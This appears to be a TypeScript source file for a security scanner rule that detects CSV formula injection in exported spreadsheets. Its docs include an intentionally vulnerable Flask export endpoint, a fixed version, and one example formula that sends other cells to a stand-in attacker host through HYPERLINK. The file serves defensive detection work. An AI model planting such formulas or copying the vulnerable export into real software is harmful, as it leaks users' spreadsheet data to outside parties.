/** A visitor's text becomes a cell of a table that people open in a spreadsheet. */
import { listElements } from '../flow/containers';
import { beginning, isTainted, type Value } from '../flow/values';
import { flowRule } from './flowRule';

export const rule = flowRule({
  id: 'csv-formula-injection',
  title: 'Formula in an exported table',
  kind: 'trust',
  about: 'spreadsheet',
  severity: 'warning',
  doc: {
    happens:
      'Spreadsheets run a cell that begins with `=`, `+`, `-` or `@`. Who enters `=HYPERLINK("https://evil.example/?"&A1)` ' +
      'as their name sends the other cells of your export away as soon as a colleague opens it and clicks.',
    vulnerable: {
      'app.py': `
import csv
import io

from flask import Flask, request

app = Flask(__name__)


@app.post("/export")
def export():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([request.form["name"], 1])
    return buffer.getvalue(), {"Content-Type": "text/csv"}
`,
    },
    safe: {
      'app.py': `
import csv
import io

from flask import Flask, request

app = Flask(__name__)


def cell(text):
    return "'" + text if text.startswith(("=", "+", "-", "@")) else text


@app.post("/export")
def export():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell(request.form["name"]), 1])
    return buffer.getvalue(), {"Content-Type": "text/csv"}
`,
    },
    why: 'An apostrophe in front makes the cell a text for every spreadsheet.',
    limits:
      'A table that only programs read needs no apostrophes. Data that comes back from a database is not reported.',
    references: [
      {
        title: 'CWE-1236: Formula Elements in a CSV File',
        url: 'https://cwe.mitre.org/data/definitions/1236.html',
      },
      { title: 'OWASP: CSV Injection', url: 'https://owasp.org/www-community/attacks/CSV_Injection' },
    ],
  },
  only: 'becomes a cell of a spreadsheet',
  accepts: (hit) => cellsOf(hit.value).some(mayBeFormula),
  message: (label) => `A cell of this table may begin like a formula, because it depends on \`${label}\`.`,
});

function cellsOf(value: Value): readonly Value[] {
  const { contents } = value;
  if (contents === undefined) return [value];
  const elements = listElements(contents) ?? [...contents.entries.values()];
  return [...elements, ...(contents.rest === undefined ? [] : [contents.rest])].flatMap(cellsOf);
}

function mayBeFormula(cell: Value): boolean {
  const first = beginning(cell);
  return first !== undefined && isTainted(first, 'trust');
}
